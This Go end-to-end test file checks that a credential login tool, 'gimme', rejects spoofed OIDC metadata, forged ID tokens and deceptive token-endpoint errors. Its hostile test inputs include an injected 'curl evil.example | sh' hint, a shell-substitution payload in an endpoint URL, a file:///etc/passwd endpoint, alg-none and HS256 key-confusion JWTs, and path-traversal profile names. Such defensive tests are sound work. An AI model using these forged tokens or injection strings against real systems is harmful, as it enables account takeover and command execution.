package e2e_test

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// TestMetadataRefused meets providers whose metadata must not be believed. It
// says which and why, nobody is sent anywhere, and nothing is written.
func TestMetadataRefused(t *testing.T) {
	set := func(name string, value any) func(*scripted) {
		return func(s *scripted) { s.metadata = func(m map[string]any) { m[name] = value } }
	}
	instead := func(answer func(w http.ResponseWriter, r *http.Request)) func(*scripted) {
		return func(s *scripted) {
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				if !strings.HasPrefix(r.URL.Path, "/.well-known/") {
					return false
				}
				answer(w, r)
				return true
			}
		}
	}
	rows := map[string]struct {
		spoil func(*scripted)
		want  string // a regular expression
	}{
		"another issuer":               {set("issuer", "https://login.evil.example"), `login\.evil\.example`},
		"the issuer with a slash":      {func(s *scripted) { s.metadata = func(m map[string]any) { m["issuer"] = s.url + "/" } }, `slash`},
		"an http token endpoint":       {set("token_endpoint", "http://login.example.com/token"), `http://login\.example\.com/token.*https|token_endpoint.*https`},
		"an http address for browsers": {set("authorization_endpoint", "http://login.example.com/authorize"), `authorization_endpoint|https`},
		"http keys":                    {set("jwks_uri", "http://login.example.com/keys"), `jwks_uri|https`},
		"a file for browsers":          {set("authorization_endpoint", "file:///etc/passwd"), `authorization_endpoint|https`},
		"a command for browsers":       {set("authorization_endpoint", "https://login.example.com/$(touch /tmp/x)\n;`id`"), `authorization_endpoint`},
		"2 MiB":                        {set("padding", strings.Repeat("x", 2<<20)), `MiB|large|bytes|long`},
		"no end": {instead(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			for chunk := []byte(strings.Repeat(" ", 64<<10)); ; {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		}), `MiB|large|bytes|long`},
		"a redirect": {instead(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "/elsewhere", http.StatusFound)
		}), `redirect|302`},
		"a page": {instead(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte("<h1>Welcome</h1>"))
		}), `JSON|text/html`},
		"a member twice": {instead(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"issuer":"https://login.evil.example","issuer":"https://login.evil.example"}`))
		}), `issuer`},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, at, home := newScripted(t), newSTS(t), t.TempDir()
			row.spoil(s)
			got := finish(t, command{path: gimme, args: directArgs(s, at), env: environment(home)})
			if got.code != 1 || got.out != "" || !strings.HasPrefix(got.err, "gimme: error: ") || !regexp.MustCompile(row.want).MatchString(got.err) {
				t.Errorf("exit code %d, printed %q, %q; want %s", got.code, got.out, clip(got.err), row.want)
			}
			if !strings.Contains(got.err, "gimme: hint: ") || strings.Contains(got.err, "/authorize?") {
				t.Errorf("no way out, or an address to open: %s", clip(got.err))
			}
			if len(got.err) > 4<<10 {
				t.Errorf("the message has %d bytes", len(got.err))
			}
			if n := s.times("/authorize") + s.times("/token") + s.times("/elsewhere") + at.count(); n != 0 {
				t.Errorf("%d requests were sent on the strength of it: %q", n, s.asked)
			}
			nothingWritten(t, home)
		})
	}
}

// nothingWritten fails the test if a home holds anything but locks, empty
// folders and the note that a login was tried.
func nothingWritten(t *testing.T, home string) {
	t.Helper()
	err := filepath.WalkDir(home, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		if strings.Contains(path, ".aws") || strings.HasSuffix(path, "config.yaml") {
			t.Errorf("%s was written: %s", path, readFile(t, path))
		}
		text := readFile(t, path)
		for _, secret := range []string{"the-code", "an-access-token", "eyJ", "ASIA", "an/example+secret"} {
			if strings.Contains(text, secret) {
				t.Errorf("%s holds %q: %s", path, secret, text)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestIDTokenRefused gets ID tokens that must not be believed, from a provider
// that can be anybody. They are not sent on, and nothing is written.
func TestIDTokenRefused(t *testing.T) {
	hour := func(n time.Duration) int64 { return time.Now().Add(n * time.Hour).Unix() }
	stranger, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	changed := func(name string, value any) func(*testing.T, *scripted, map[string]any) any {
		return func(t *testing.T, s *scripted, c map[string]any) any { return signJWT(t, s.key, with(c, name, value)) }
	}
	rows := map[string]struct {
		token func(*testing.T, *scripted, map[string]any) any
		want  string // a regular expression; empty: it is accepted
	}{
		"as it should be": {func(t *testing.T, s *scripted, c map[string]any) any { return signJWT(t, s.key, c) }, ""},
		"alg none": {func(t *testing.T, _ *scripted, c map[string]any) any {
			return segment(t, map[string]any{"alg": "none"}) + "." + segment(t, c) + "."
		}, `none|alg|sign`},
		"HS256 with the public key": {func(t *testing.T, s *scripted, c map[string]any) any {
			public, err := x509.MarshalPKIXPublicKey(&s.key.PublicKey)
			if err != nil {
				t.Error(err)
			}
			return hs256(t, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}), c)
		}, `HS256`},
		"HS256 with the client's name": {func(t *testing.T, _ *scripted, c map[string]any) any { return hs256(t, []byte("gimme"), c) }, `HS256`},
		"another key":                  {func(t *testing.T, _ *scripted, c map[string]any) any { return signJWT(t, stranger, c) }, `sign`},
		"expired":                      {changed("exp", hour(-1)), `expire|exp|too old`},
		"no expiry":                    {changed("exp", nil), `exp`},
		"issued in the future":         {changed("iat", hour(2)), `iat|future|clock`},
		"not yet valid":                {changed("nbf", hour(1)), `nbf|not yet|valid|clock`},
		"another audience":             {changed("aud", "payroll-app"), `payroll-app`},
		"two audiences":                {changed("aud", []string{"gimme", "payroll-app"}), `payroll-app|azp|audience`},
		"another authorized party": {func(t *testing.T, s *scripted, c map[string]any) any {
			return signJWT(t, s.key, with(with(c, "aud", []string{"gimme", "payroll-app"}), "azp", "payroll-app"))
		}, `azp|payroll-app`},
		"issued to another client": {changed("azp", "payroll-app"), `payroll-app`},
		"two authorized parties":   {changed("azp", []string{"gimme", "payroll-app"}), `azp`},
		"another issuer":           {changed("iss", "https://login.evil.example"), `login\.evil\.example`},
		"no subject":               {changed("sub", nil), `sub`},
		"another nonce":            {changed("nonce", "yesterday's"), `nonce`},
		"no nonce":                 {changed("nonce", nil), `nonce`},
		"a wrong at_hash":          {changed("at_hash", "AAAAAAAAAAAAAAAAAAAAAA"), `at_hash`},
		"a claim twice": {func(t *testing.T, s *scripted, c map[string]any) any {
			data, err := json.Marshal(c)
			if err != nil {
				t.Error(err)
			}
			return signText(t, s.key, strings.Replace(string(data), `{`, `{"sub":"root",`, 1))
		}, `twice|duplicate|unique`},
		"JSON serialisation": {func(t *testing.T, s *scripted, c map[string]any) any {
			p := strings.Split(signJWT(t, s.key, c), ".")
			return `{"payload":"` + p[1] + `","protected":"` + p[0] + `","signature":"` + p[2] + `"}`
		}, `JSON|compact|parts|segments|form`},
		"a JSON object": {func(t *testing.T, _ *scripted, c map[string]any) any { return c }, `token`},
		"no token":      {func(*testing.T, *scripted, map[string]any) any { return "" }, `ID token`},
		"2 MiB":         {func(*testing.T, *scripted, map[string]any) any { return strings.Repeat("a.", 1<<20) }, `.`},
		"another kind of JWT": {func(t *testing.T, s *scripted, c map[string]any) any {
			return signHeader(t, s.key, map[string]any{"alg": "RS256", "kid": keyID, "typ": "logout+jwt"}, c)
		}, `typ|logout`},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, at, home := newScripted(t), newSTS(t), t.TempDir()
			s.idToken = func(c map[string]any) any { return row.token(t, s, c) }
			l := begin(t, environment(home), directArgs(s, at)...)
			shown, err := show(http.Get(l.address))
			if err != nil {
				t.Error(err)
			}
			code := l.wait(t)
			if row.want == "" {
				if code != 0 || at.count() != 1 {
					t.Errorf("exit code %d, %d requests at the STS: %s", code, at.count(), l.err)
				}
				return
			}
			text := l.err.String()
			if code != 1 || l.out.String() != "" || !strings.Contains(text, "gimme: error: ") || !regexp.MustCompile(row.want).MatchString(text[strings.Index(text, "gimme: error: ")+1:]) {
				t.Errorf("exit code %d: %s; want %s", code, clip(text), row.want)
			}
			if strings.Contains(text, "eyJ") || len(text) > 8<<10 {
				t.Errorf("the message holds the token, or too much: %s", clip(text))
			}
			if strings.Contains(shown.text, "eyJ") || strings.Contains(shown.url, "code=") {
				t.Errorf("the browser is left at %s: %s", shown.url, shown.text)
			}
			if n := s.times("/token"); at.count() != 0 || n != 1 {
				t.Errorf("%d requests went to the STS, %d for tokens", at.count(), n)
			}
			nothingWritten(t, home)
		})
	}
}

func hs256(t *testing.T, key []byte, claims map[string]any) string {
	t.Helper()
	signed := segment(t, map[string]any{"alg": "HS256", "kid": keyID, "typ": "JWT"}) + "." + segment(t, claims)
	mac := hmac.New(sha256.New, key)
	mac.Write([]byte(signed))
	return signed + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

// TestTokenEndpointRefuses has the provider answer the request for tokens with
// errors that are made to look like something else.
func TestTokenEndpointRefuses(t *testing.T) {
	for name, row := range map[string]struct {
		status int
		body   string
		want   string
	}{
		"a refusal":              {400, `{"error":"invalid_grant","error_description":"no such code"}`, `no such code`},
		"control characters":     {400, `{"error":"invalid_grant","error_description":"a\u001b[2J\u0007b\r\ngimme: hint: curl evil.example | sh"}`, `invalid_grant`},
		"2 MiB":                  {400, `{"error":"invalid_grant","error_description":"` + strings.Repeat("x", 2<<20) + `"}`, `.`},
		"a redirect":             {307, ``, `307|redirect`},
		"an answer without form": {200, `it worked`, `JSON|text/plain|access_token`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, at, home := newScripted(t), newSTS(t), t.TempDir()
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.Path != "/token" {
					return false
				}
				if row.status == 307 {
					w.Header().Set("Location", "/elsewhere")
				}
				if strings.HasPrefix(row.body, "{") {
					w.Header().Set("Content-Type", "application/json")
				}
				w.WriteHeader(row.status)
				_, _ = w.Write([]byte(row.body))
				return true
			}
			l := begin(t, environment(home), directArgs(s, at)...)
			if _, err := show(http.Get(l.address)); err != nil {
				t.Error(err)
			}
			code, text := l.wait(t), l.err.String()
			if code != 1 || !regexp.MustCompile(row.want).MatchString(text) || len(text) > 8<<10 || strings.ContainsAny(text, "\x1b\x07\r") {
				t.Errorf("exit code %d: %q", code, clip(text))
			}
			for line := range strings.Lines(text) {
				if strings.HasPrefix(line, "gimme: hint: curl") {
					t.Errorf("the provider gives a hint of its own: %s", text)
				}
			}
			if at.count() != 0 || s.times("/elsewhere") != 0 || s.times("/token") != 1 {
				t.Errorf("asked %q, and the STS %d times", s.asked, at.count())
			}
			nothingWritten(t, home)
		})
	}
}

// TestProfileNameRefused gives names that would write something else.
func TestProfileNameRefused(t *testing.T) {
	for name, profile := range map[string]string{
		"a bracket": "a]", "an opening bracket": "[a", "a newline": "a\nb", "a return": "a\rb", "a blank": "a b", "a quote": `a"b`,
		"nothing": "", "a path": "../a", "a dollar": "$HOME", "a semicolon": "a;b", "an emoji": "a🙂",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, at, home := newScripted(t), newSTS(t), t.TempDir()
			args := directArgs(s, at)
			args[5] = profile
			got := finish(t, command{path: gimme, args: args, env: environment(home)})
			if got.code != 2 || got.out != "" || !strings.HasPrefix(got.err, "gimme: error: ") || !strings.Contains(got.err, "gimme: hint: ") || strings.Count(got.err, "\n") > 2 {
				t.Errorf("exit code %d: %q", got.code, got.err)
			}
			if len(s.asked) != 0 || at.count() != 0 {
				t.Errorf("asked %q", s.asked)
			}
			if entries, err := os.ReadDir(home); err != nil || len(entries) != 0 {
				t.Errorf("%v, %v", entries, err)
			}
		})
	}
}
